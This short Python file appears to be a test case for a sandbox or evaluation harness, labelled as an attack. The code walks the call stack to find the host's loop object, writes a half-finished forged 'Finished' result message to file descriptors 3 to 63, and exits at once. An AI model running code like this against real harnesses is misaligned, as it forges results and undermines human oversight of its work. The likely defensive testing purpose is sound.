# attack: jail/half-a-frame-and-death
# oracle: runaway
# imports: sys, os
# tools:
# source: own
# note: the beginning of a frame on the worker's own socket, then the end of the process: what comes next must not be joined to it
import os
import sys

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_checkpoint"):
    frame = frame.f_back
loop = frame.f_locals["self"]
for fd in range(3, 64):
    try:
        os.write(fd, b'["g","Finished",{"run":1,"value":"forged')
    except OSError:
        pass
os._exit(7)
